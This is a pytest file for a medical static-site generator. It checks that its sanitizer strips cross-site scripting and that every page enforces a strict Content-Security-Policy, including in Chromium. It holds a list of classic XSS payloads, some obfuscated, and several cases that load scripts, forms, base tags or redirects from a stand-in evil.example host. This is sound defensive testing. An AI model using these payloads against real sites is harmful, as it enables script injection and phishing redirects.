"""No script from content: raw HTML and links in Markdown pass an allow-list; every page forbids inline script.

The sanitizer is checked on rendered bodies, in a built site (with warnings at the source line),
on every page of the real site (its Content-Security-Policy), and in real Chromium: a page whose
Markdown holds the classic attacks runs no script.
"""
from __future__ import annotations

import base64
import hashlib
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from browser_support import build_real_site, serve_folder
from conftest import run_cli
from medsite.markdown import MarkdownRenderer
from medsite.sanitize import ALLOWED_TAGS, clean_html

ATTACKS = """---
title: "Attacks </script><script>alert('title')</script>"
summary: "A page that tries to run script <img src=x onerror=alert('summary')>."
kind: page
last_reviewed: 2026-11-01
---
Some text before.

<script>alert(1)</script>

<img src=x onerror=alert(1)>

[x](javascript:alert(1))

<a href="JaVaScRiPt:alert(1)" onclick="alert(1)">mixed case</a> and <a href="vbscript:msgbox(1)">vb</a>

<iframe src="javascript:alert(1)"></iframe><object data="x.swf"></object><embed src="x.swf">

<style>body { display: none }</style>

<svg onload="alert(1)"><circle r="5"/></svg>

<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>

<details ontoggle="alert(1)" open><summary>More</summary>Hidden text.</details>

| Column aligned right (no inline style, which the policy would block) |
|--:|
| 1 |
"""


class Elements(HTMLParser):
    """Start tags with attributes and the text of inline scripts, as a browser's tokenizer sees them."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.inline_scripts: list[str] = []
        self._script: list[str] | None = None
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        if tag == "script" and "src" not in dict(attrs):
            self._script = []

    def handle_data(self, data):
        if self._script is not None:
            self._script.append(data)

    def handle_endtag(self, tag):
        if tag == "script" and self._script is not None:
            self.inline_scripts.append("".join(self._script))
            self._script = None


def script_attributes(tag: str, attrs: dict) -> list[str]:
    """The attributes of one element that could run script: handlers and script or document URLs."""
    found = []
    for name, value in attrs.items():
        url = re.sub(r"[\x00-\x20]", "", value).lower()
        if name.startswith("on"):
            found.append(f"<{tag} {name}>")
        elif url.startswith(("javascript:", "vbscript:")) or (url.startswith("data:") and not (
                tag == "img" and name == "src" and url.startswith("data:image/"))):
            found.append(f"<{tag} {name}={value}>")
    return found


def unsafe_parts(html: str) -> list[str]:
    """Everything in content HTML that could run script, load a document or restyle the page."""
    found = []
    for tag, attrs in Elements(html).tags:
        if tag in ("script", "iframe", "object", "embed", "style", "svg", "math", "base", "form", "meta", "link"):
            found.append(f"<{tag}>")
        found += script_attributes(tag, attrs)
    return found


def main_of(page: str) -> str:
    """The page's <main>: where the article's HTML goes (the header and footer are the templates')."""
    return page[page.index("<main"):page.index("</main>")]


def render(body: str):
    return MarkdownRenderer().render(body, "topic-a/attacks.md", body_line=1)


# The sanitizer on rendered Markdown

def test_the_attack_page_renders_without_anything_that_can_run_script():
    rendered = render(ATTACKS.split("---\n", 2)[2])

    assert unsafe_parts(rendered.html) == []
    assert "Some text before." in rendered.html and "Hidden text." in rendered.html
    assert "<details open=\"\">" in rendered.html and "<summary>More</summary>" in rendered.html


def test_the_unsafe_parts_check_finds_each_attack_in_unsanitized_html_as_a_control():
    raw = '<script>x</script><img src=x onerror=a()><a href=" javascript:a()">x</a><a href="data:text/html,x">d</a>'
    assert unsafe_parts(raw) == ["<script>", "<img onerror>", '<a href= javascript:a()>', "<a href=data:text/html,x>"]
    assert unsafe_parts(clean_html(raw)) == []


@pytest.mark.parametrize("markdown, removed", [
    ("<script>alert(1)</script>", "<script"),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "evil.example"),
    ("<img src=x onerror=alert(1)>", "onerror"),
    ("[x](javascript:alert(1))", "javascript:"),
    ("[x](JAVASCRIPT:alert(1))", "javascript:"),
    ("<a href='jav&#x61;script:alert(1)'>x</a>", "alert"),
    ("<a href='java&#9;script:alert(1)'>x</a>", "alert"),
    ("<a href='java&#10;script:alert(1)'>x</a>", "alert"),
    ("[x](vbscript:msgbox(1))", "vbscript:"),
    ("[x](data:text/html,<script>alert(1)</script>)", "data:"),
    ("![x](data:text/html,hi)", "data:"),
    ("<iframe src=https://evil.example></iframe>", "iframe"),
    ("<object data=x.swf></object>", "object"),
    ("<embed src=x.swf>", "embed"),
    ("<style>* { display: none }</style>", "display"),
    ("<form action=https://evil.example><input name=q></form>", "<form"),
    ("<p onmouseover=alert(1)>Hover</p>", "onmouseover"),
    ("<a href=x.html target=_blank>x</a>", "target"),
    ("<p style='position: fixed; top: 0'>Overlay</p>", "position"),
    ("<table><tr><td style='text-align: left; position: fixed'>x</td></tr></table>", "style"),
    ("<base href=https://evil.example/>", "<base"),
    ("<meta http-equiv=refresh content='0;url=https://evil.example'>", "refresh"),
])
def test_an_unsafe_construct_is_removed(markdown, removed):
    rendered = render(markdown + "\n")
    assert removed.lower() not in rendered.html.lower(), rendered.html
    assert rendered.removed, "the removal must be reported"


@pytest.mark.parametrize("markdown, kept", [
    ("| a | b |\n|:--|--:|\n| 1 | 2 |", ['<th class="align-left">a</th>', '<td class="align-right">2</td>']),
    ("*[NMDA]: N-methyl-D-aspartate\n\nThe NMDA receptor.", ['<abbr title="N-methyl-D-aspartate">NMDA</abbr>']),
    ("<details><summary>More</summary>\n\nText.\n\n</details>", ["<details>", "<summary>More</summary>"]),
    ('<img src="images/chart.png" alt="A chart" width="300" height="200" title="Chart">',
     ['src="images/chart.png"', 'alt="A chart"', 'width="300"', 'height="200"', 'title="Chart"']),
    ("![A chart](images/chart.png)", ['src="medsite:topic-a/images/chart.png"', 'alt="A chart"']),
    ("![Dot](data:image/png;base64,iVBORw0KGgo=)", ['src="data:image/png;base64,iVBORw0KGgo="']),
    ('[Risks](risks.md#common "The risks")', ['href="medsite:topic-a/risks.md#common"', 'title="The risks"']),
    ("[Site](https://example.org/a?b=1&c=2) [mail](mailto:team@example.org)",
     ['href="https://example.org/a?b=1&amp;c=2"', 'href="mailto:team@example.org"']),
    ("Text.[^1]\n\n[^1]: A note.", ['href="#fn:1"', 'id="fn:1"', 'href="#fnref:1"', 'class="footnote-ref"']),
    ("!!! warning \"Careful\"\n    Talk to your doctor.", ['<div class="admonition warning">',
                                                          '<p class="admonition-title">Careful</p>']),
    ("## Side effects {: #effects .key }", ['<h2 class="key" id="effects">']),
    ('<div class="note" id="n1"><p>Kept <strong>bold</strong>, <em>em</em>, <sub>2</sub>, <sup>3</sup>.</p></div>',
     ['<div class="note" id="n1">', "<strong>bold</strong>", "<sub>2</sub>"]),
    ('<a href="https://example.org/" title="Elsewhere">out</a>', ['<a href="https://example.org/" title="Elsewhere">']),
    ("<p>A <span lang=\"fr\">mot</span> and <abbr title=\"as needed\">PRN</abbr>.</p>",
     ['<span lang="fr">mot</span>', '<abbr title="as needed">PRN</abbr>']),
])
def test_safe_formatting_is_kept(markdown, kept):
    rendered = render(markdown + "\n")
    for piece in kept:
        assert piece in rendered.html, rendered.html
    assert rendered.removed == ()


def test_only_allowed_tags_ever_come_out():
    rendered = render(ATTACKS.split("---\n", 2)[2])
    assert {tag for tag, _ in Elements(rendered.html).tags} <= ALLOWED_TAGS


# In a built site: warnings at the source line, placeholders resolved, nothing unsafe on the page

def test_a_build_warns_at_each_line_it_removed_something_from(make_site):
    site = make_site({"content/topic-a/attacks.md": ATTACKS})

    first = run_cli("build", cwd=site)
    result = run_cli("build", cwd=site)  # again, from the build cache: the warnings must not get lost

    assert first.returncode == 0 and result.returncode == 0, result.stderr
    warnings = [line for line in result.stderr.splitlines() if line.startswith("content/topic-a/attacks.md:")]
    assert warnings == [line for line in first.stderr.splitlines() if line.startswith("content/topic-a/attacks.md:")]
    for expected in [
        "content/topic-a/attacks.md:9: warning: removed <script> from raw HTML",
        "content/topic-a/attacks.md:11: warning: removed the onerror attribute of <img> from raw HTML",
        "content/topic-a/attacks.md:13: warning: removed the unsafe URL 'javascript:alert(1)' of <a href>",
        "content/topic-a/attacks.md:15: warning: removed the onclick attribute of <a> from raw HTML",
        "content/topic-a/attacks.md:15: warning: removed the unsafe URL 'vbscript:msgbox(1)' of <a href>",
        "content/topic-a/attacks.md:17: warning: removed <iframe> from raw HTML",
        "content/topic-a/attacks.md:17: warning: removed <embed> from raw HTML",
        "content/topic-a/attacks.md:19: warning: removed <style> from raw HTML",
        "content/topic-a/attacks.md:21: warning: removed <svg> from raw HTML",
        "content/topic-a/attacks.md:25: warning: removed the ontoggle attribute of <details> from raw HTML",
    ]:
        assert expected in warnings, "\n".join(warnings)
    page = (site / "_site" / "topic-a" / "attacks" / "index.html").read_text(encoding="utf-8")
    assert unsafe_parts(main_of(page)) == []
    # The title and summary, full of markup, stay text: the only script element is JSON-LD data.
    scripts = [attrs for tag, attrs in Elements(page).tags if tag == "script"]
    assert all(attrs.get("type") == "application/ld+json" for attrs in scripts), scripts
    assert "Attacks &lt;/script&gt;&lt;script&gt;" in page


def test_internal_links_survive_the_sanitizer_and_resolve(make_site):
    site = make_site({"content/topic-a/links.md": """
        ---
        title: Links
        summary: Links of every kind.
        kind: page
        last_reviewed: 2026-11-01
        ---
        See [the risks](second.md#common-side-effects), the [glossary](../glossary.md#pain-signal),
        a note[^1] and <span class="internal" id="raw">raw HTML</span>.

        [^1]: The note.
        """})

    result = run_cli("build", cwd=site)

    assert result.returncode == 0, result.stderr
    page = (site / "_site" / "topic-a" / "links" / "index.html").read_text(encoding="utf-8")
    assert 'href="../second/#common-side-effects"' in page
    assert 'href="../../glossary/#pain-signal"' in page
    assert 'href="#fn:1"' in page and 'id="fn:1"' in page
    assert '<span class="internal" id="raw">raw HTML</span>' in page
    assert "medsite:" not in page
    assert "warning" not in result.stderr


# Every page of the real site forbids inline script

def csp_of(html: str) -> str:
    policies = [attrs.get("content", "") for tag, attrs in Elements(html).tags
                if tag == "meta" and attrs.get("http-equiv", "").lower() == "content-security-policy"]
    assert len(policies) == 1, f"expected one Content-Security-Policy meta tag, found {len(policies)}"
    return policies[0]


def script_sources(policy: str) -> list[str]:
    directives = {part.split()[0]: part.split()[1:] for part in policy.split(";") if part.strip()}
    return directives.get("script-src", directives.get("default-src", []))


@pytest.fixture(scope="module")
def real_site(tmp_path_factory) -> Path:
    return build_real_site(tmp_path_factory.mktemp("real") / "site")


def test_every_page_of_the_real_site_forbids_inline_script_but_what_the_site_needs(real_site):
    pages = sorted(real_site.rglob("*.html"))
    assert len(pages) >= 5
    for path in pages:
        html = path.read_text(encoding="utf-8")
        policy = csp_of(html)
        sources = script_sources(policy)
        assert sources, f"{path}: no script-src or default-src"
        assert "'unsafe-inline'" not in sources and "'unsafe-eval'" not in sources and "*" not in sources
        assert "object-src 'none'" in policy and "base-uri 'none'" in policy
        head = html.split("</head>")[0]
        assert head.index("Content-Security-Policy") < (head.index("<script") if "<script" in head else len(head))
        elements = Elements(html)
        inline = iter(elements.inline_scripts)
        for tag, attrs in elements.tags:
            assert script_attributes(tag, attrs) == [], path
            if tag != "script":
                continue
            if "src" in attrs:
                assert not re.match(r"(\w+:)?//", attrs["src"]), f"{path}: script from another host"
                continue
            digest = "'sha256-" + base64.b64encode(hashlib.sha256(next(inline).encode()).digest()).decode() + "'"
            is_data = attrs.get("type", "") in ("application/ld+json", "application/json")
            assert is_data or digest in sources, f"{path}: an inline script that is neither data nor hashed"


# In real Chromium: the attack page runs no script

def test_a_page_of_attacks_runs_no_script_in_chromium(make_site, chromium):
    site = make_site({"content/topic-a/attacks.md": ATTACKS})
    result = run_cli("build", cwd=site)
    assert result.returncode == 0, result.stderr

    with serve_folder(site / "_site") as base:
        page = chromium.new_page()
        try:
            dialogs, console, errors, missing = [], [], [], []
            page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
            page.on("console", lambda message: console.append(message.text))
            page.on("pageerror", lambda error: errors.append(str(error)))
            page.on("response", lambda response: missing.append(response.url) if response.status == 404 else None)
            page.goto(base + "topic-a/attacks/", wait_until="load")
            page.get_by_text("x", exact=True).click()
            page.get_by_text("mixed case").click()
            page.get_by_text("More").click()
            page.mouse.move(5, 5)
            page.wait_for_timeout(500)
            assert page.url == base + "topic-a/attacks/", "a link took the browser away"
            assert "Some text before." in page.inner_text("main")
            assert page.eval_on_selector("td.align-right", "cell => getComputedStyle(cell).textAlign") == "right"
        finally:
            page.context.close()
    assert dialogs == [] and errors == []
    # The image `x` failed to load, so its onerror would have run had it been kept; the browser's
    # note of that 404 is the page's only console message.
    assert missing == [base + "topic-a/attacks/x"]
    assert [text for text in console if "404" not in text] == [] and len(console) <= 1, console


def test_the_browser_check_sees_a_dialog_from_an_unsanitized_page_as_a_control(tmp_path, chromium):
    (tmp_path / "index.html").write_text("<!doctype html><title>x</title><p>Raw</p>"
                                         "<img src=x onerror=\"alert('img')\"><script>console.log('ran')</script>",
                                         encoding="utf-8")
    with serve_folder(tmp_path) as base:
        page = chromium.new_page()
        try:
            dialogs, console = [], []
            page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
            page.on("console", lambda message: console.append(message.text))
            page.goto(base, wait_until="load")
            page.wait_for_timeout(500)
        finally:
            page.context.close()
    assert dialogs == ["img"] and "ran" in console
